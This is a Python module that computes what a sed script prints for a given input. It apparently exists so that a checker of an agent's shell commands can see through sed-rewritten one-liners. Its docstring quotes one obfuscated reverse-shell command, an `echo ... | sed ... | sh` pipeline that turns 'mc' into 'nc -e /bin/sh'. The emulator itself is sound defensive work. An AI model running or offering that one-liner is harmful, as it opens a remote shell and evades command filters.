"""What a sed script prints for a known input, for the scripts that rewrite text.

`echo 'mc -e /bin/sh HOST PORT' | sed 's/^m/n/' | sh` runs nc with no `nc -e` in the text: the
shell reader needs sed's output to read what the shell runs. This computes it for the commands such
one-liners use, the way GNU sed does (POSIX sed(1), GNU sed manual "The s Command"):

- `s/RE/REPLACEMENT/FLAGS` with any delimiter; flags g, N (the Nth match), Ng, i/I, p;
  REPLACEMENT with `&`, `\\1`..`\\9`, `\\n`, `\\t` and escaped characters;
- `y/SOURCE/DEST/` (character for character);
- `d` and `p`, and `-n`;
- several commands, with `;`, newlines, `-e` (each) and `--expression=`; `-E`/`-r` (extended
  regular expressions), else basic ones (BRE: `\\(`, `\\{`, `\\+`, `\\?`, `\\|` are the operators).

Anything else (addresses, other commands, input files, `w`, case conversion in the replacement)
gives None: the output is not known. Regular expressions run on RE2 (linear time): an agent's text
never costs more than its length; the output (MAX_OUTPUT) and the work (MAX_STEPS: a line through
a command, or a match) are bounded, and a script that would go past either is unknown.
"""
from __future__ import annotations

import re2

MAX_OUTPUT = 1 << 20
MAX_COMMANDS = 64
MAX_STEPS = 50_000

_BRE_OPERATORS = {"(": "(", ")": ")", "{": "{", "}": "}", "+": "+", "?": "?", "|": "|"}
_ERE_LITERAL_IN_BRE = frozenset("(){}+?|")


class _Unknown(Exception):
    """A script (or part of one) this module does not compute."""


def output(args: list[str], stdin: str) -> str | None:
    """What `sed ARGS` prints when `stdin` is its input; None when that is not known."""
    try:
        scripts, extended, quiet = _options(args)
        commands = [c for script in scripts for c in _commands(script, extended)]
    except (_Unknown, re2.error):
        return None
    if len(commands) > MAX_COMMANDS:
        return None
    lines = stdin.split("\n")
    trailing = lines[-1] == ""
    if trailing:
        lines.pop()
    if len(lines) * len(commands) > MAX_STEPS:
        return None
    budget = [MAX_STEPS]
    out: list[str] = []
    size = 0
    for line in lines:
        printed = False
        for command in commands:
            kind = command[0]
            if kind == "d":
                break
            if kind == "p":
                out.append(line)
                size += len(line)
            elif kind == "y":
                line = line.translate(command[1])
            else:
                line, replaced = _substitute(line, *command[1:4], budget)
                if replaced is None:
                    return None
                if replaced and command[4]:
                    out.append(line)
                    size += len(line)
            if size > MAX_OUTPUT or len(line) > MAX_OUTPUT:
                return None
        else:
            printed = not quiet
        if printed:
            out.append(line)
            size += len(line)
        if size > MAX_OUTPUT:
            return None
    text = "".join(line + "\n" for line in out)
    return text if trailing else text[:-1]  # as GNU sed: a last line without a newline stays so


def _options(args: list[str]) -> tuple[list[str], bool, bool]:
    scripts: list[str] = []
    extended = quiet = False
    rest: list[str] = []
    words = iter(args)
    for word in words:
        if word in ("-e", "--expression"):
            script = next(words, None)
            if script is None:
                raise _Unknown("-e without a script")
            scripts.append(script)
        elif word.startswith("--expression="):
            scripts.append(word.split("=", 1)[1])
        elif word in ("-E", "-r", "--regexp-extended"):
            extended = True
        elif word in ("-n", "--quiet", "--silent"):
            quiet = True
        elif word in ("-u", "--unbuffered", "--posix", "-s", "--separate", "-z") or word == "--":
            if word == "-z":
                raise _Unknown("NUL-separated lines")
        elif word.startswith("-") and len(word) > 1:
            cluster = word[1:]
            takes_script = cluster.endswith("e")
            if takes_script:
                cluster = cluster[:-1]
            if word.startswith("--") or not set(cluster) <= set("Ernus"):
                raise _Unknown(f"option {word}")  # -i (in place), -f (script file), ...
            extended = extended or "E" in cluster or "r" in cluster
            quiet = quiet or "n" in cluster
            if takes_script:
                script = next(words, None)
                if script is None:
                    raise _Unknown("-e without a script")
                scripts.append(script)
        else:
            rest.append(word)
    if not scripts:
        if not rest:
            raise _Unknown("no script")
        scripts.append(rest.pop(0))
    if any(word != "-" for word in rest):
        raise _Unknown("input files")  # the input is the files, not what came through the pipe
    return scripts, extended, quiet


def _commands(script: str, extended: bool) -> list[tuple]:
    """The script's commands: ("s", regex, replacement, which, print), ("y", table), ("d",), ("p",)."""
    out: list[tuple] = []
    i, n = 0, len(script)
    while i < n:
        ch = script[i]
        if ch in " \t\n;":
            i += 1
            continue
        if ch in "dp":
            out.append((ch,))
            i += 1
        elif ch == "s":
            i = _s_command(script, i + 1, extended, out)
        elif ch == "y":
            delim = script[i + 1:i + 2]
            if not delim or delim in "\\\n":
                raise _Unknown("y without a delimiter")
            source, i = _part(script, i + 2, delim)
            dest, i = _part(script, i, delim)
            source, dest = _unescape(source), _unescape(dest)
            if len(source) != len(dest):
                raise _Unknown("y with sets of different lengths")
            out.append(("y", str.maketrans(source, dest)))
        else:
            raise _Unknown(f"command {ch!r}")
    return out


def _s_command(script: str, i: int, extended: bool, out: list) -> int:
    delim = script[i:i + 1]
    if not delim or delim in "\\\n":
        raise _Unknown("s without a delimiter")
    pattern, i = _part(script, i + 1, delim)
    replacement, i = _part(script, i, delim)
    which, every, show, case = 1, False, False, False
    digits = ""
    while i < len(script) and script[i] not in ";\n}":
        flag = script[i]
        if flag == "g":
            every = True
        elif flag.isdigit():
            digits += flag
        elif flag in "iI":
            case = True
        elif flag == "p":
            show = True
        elif flag in " \t":
            pass
        else:
            raise _Unknown(f"s flag {flag!r}")  # w (writes a file), e (runs the pattern space), m, ...
        i += 1
    if digits:
        which = int(digits)
        if which < 1:
            raise _Unknown("s flag 0")
    if not pattern:
        raise _Unknown("empty regex (the last one used)")
    compiled = re2.compile(("(?i)" if case else "") + _regex(pattern, extended))
    pieces = _replacement(replacement)
    if any(type(p) is int and p > (compiled.groups or 0) for p in pieces):
        raise _Unknown("a reference to a group the regex does not have")  # sed refuses the script
    out.append(("s", compiled, pieces, (which, every), show))
    return i


def _part(script: str, i: int, delim: str, one_line: bool = True) -> tuple[str, int]:
    """The text up to the next unescaped `delim` from `i` (an escaped delimiter stands for itself),
    and the position after that delimiter; in sed (`one_line`) a newline ends the command first."""
    if not delim:
        raise _Unknown("unterminated command")
    chars: list[str] = []
    n = len(script)
    while i < n:
        ch = script[i]
        if ch == "\\" and i + 1 < n:
            nxt = script[i + 1]
            chars.append(nxt if nxt == delim else ch + nxt)
            i += 2
            continue
        if ch == delim:
            return "".join(chars), i + 1
        if ch == "\n" and one_line:
            break
        chars.append(ch)
        i += 1
    raise _Unknown("unterminated command")


def _regex(pattern: str, extended: bool) -> str:
    """A sed regular expression (BRE, or ERE with -E) as RE2 syntax."""
    out: list[str] = []
    i, n = 0, len(pattern)
    while i < n:
        ch = pattern[i]
        if ch == "[":
            end = _bracket_end(pattern, i)
            body = pattern[i + 1:end]
            out.append("[" + body.replace("\\", "\\\\") + "]")  # a backslash is a member in POSIX
            i = end + 1
            continue
        if ch == "\\" and i + 1 < n:
            nxt = pattern[i + 1]
            i += 2
            if nxt == "n":
                out.append("\\n")
            elif nxt == "t":
                out.append("\\t")
            elif nxt.isdigit():
                raise _Unknown("back-reference")  # RE2 has none
            elif not extended and nxt in _BRE_OPERATORS:
                out.append(_BRE_OPERATORS[nxt])
            elif nxt in "wWsSbB`'<>":
                out.append({"`": "\\A", "'": "\\z", "<": "\\b", ">": "\\b"}.get(nxt, "\\" + nxt))
            else:
                out.append(re2.escape(nxt))
            continue
        if not extended and ch in _ERE_LITERAL_IN_BRE:
            out.append("\\" + ch)
        elif not extended and ch == "*" and (not out or out[-1] in ("(", "^", "|")):
            out.append("\\*")  # a leading * is literal in a BRE
        else:
            out.append(ch)
        i += 1
    return "".join(out)


def _bracket_end(pattern: str, start: int) -> int:
    """The index of the `]` that closes the bracket expression opened at `start`."""
    i = start + 1
    if i < len(pattern) and pattern[i] == "^":
        i += 1
    if i < len(pattern) and pattern[i] == "]":
        i += 1  # a leading ] is a member
    while i < len(pattern):
        if pattern.startswith("[:", i) or pattern.startswith("[=", i) or pattern.startswith("[.", i):
            close = pattern.find(pattern[i + 1] + "]", i + 2)
            if close < 0:
                raise _Unknown("unterminated class")
            i = close + 2
            continue
        if pattern[i] == "]":
            return i
        i += 1
    raise _Unknown("unterminated bracket expression")


def _replacement(text: str) -> list[str | int]:
    """The replacement as literal pieces and group numbers (0 for `&`)."""
    pieces: list[str | int] = []
    literal: list[str] = []
    i, n = 0, len(text)
    while i < n:
        ch = text[i]
        if ch == "&":
            pieces.append("".join(literal))
            literal = []
            pieces.append(0)
        elif ch == "\\" and i + 1 < n:
            nxt = text[i + 1]
            i += 1
            if nxt.isdigit():
                pieces.append("".join(literal))
                literal = []
                pieces.append(int(nxt))
            elif nxt in "LUElu":
                raise _Unknown("case conversion")
            else:
                literal.append({"n": "\n", "t": "\t"}.get(nxt, nxt))
        else:
            literal.append(ch)
        i += 1
    pieces.append("".join(literal))
    return [p for p in pieces if p != ""]


def _substitute(line: str, regex, replacement: list, which: tuple[int, bool],
                budget: list[int]) -> tuple[str, bool | None]:
    """`s` on one line: the Nth match (and, with g, every one after it) replaced; None for
    "replaced" when the matches ran past the budget. As GNU sed, an empty match right after the
    previous match is not one (finditer yields it: it is passed over)."""
    nth, every = which
    out: list[str] = []
    last = count = 0
    previous_end = -1
    replaced = False
    for match in regex.finditer(line):
        budget[0] -= 1
        if budget[0] < 0:
            return line, None
        start, end = match.span()
        if start == end == previous_end:
            continue
        previous_end = end
        count += 1
        if count < nth:
            continue
        out.append(line[last:start])
        for piece in replacement:
            out.append((match.group(piece) or "") if type(piece) is int else piece)
        last = end
        replaced = True
        if not every:
            break
    if not replaced:
        return line, False
    out.append(line[last:])
    return "".join(out), True


def _unescape(text: str) -> str:
    out: list[str] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if ch == "\\" and i + 1 < len(text):
            nxt = text[i + 1]
            out.append({"n": "\n", "t": "\t"}.get(nxt, nxt))
            i += 2
            continue
        out.append(ch)
        i += 1
    return "".join(out)
